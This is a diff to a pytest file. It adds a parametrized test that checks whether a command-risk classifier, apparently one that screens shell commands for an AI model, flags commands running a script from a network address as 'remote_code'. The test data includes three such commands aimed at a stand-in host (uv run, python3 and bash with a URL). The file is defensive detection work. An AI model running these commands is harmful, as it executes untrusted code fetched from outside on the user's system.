@@ -76,3 +76,12 @@ def test_workspace_script_is_the_works_own():
 def test_unread_code_has_a_hint_for_the_model():
     """The model is told what to do instead."""
     assert all(item.hint for item in findings('bash -c "$X"') if item.risk == "opaque")
+
+
+@pytest.mark.parametrize(
+    "command",
+    ["uv run https://x.example/y.py", "python3 https://x.example/y", "bash HTTP://x.example"],
+)
+def test_an_address_in_a_scripts_place_is_foreign_code(command):
+    """Some programs fetch what they are to run."""
+    assert "remote_code" in risks(command)
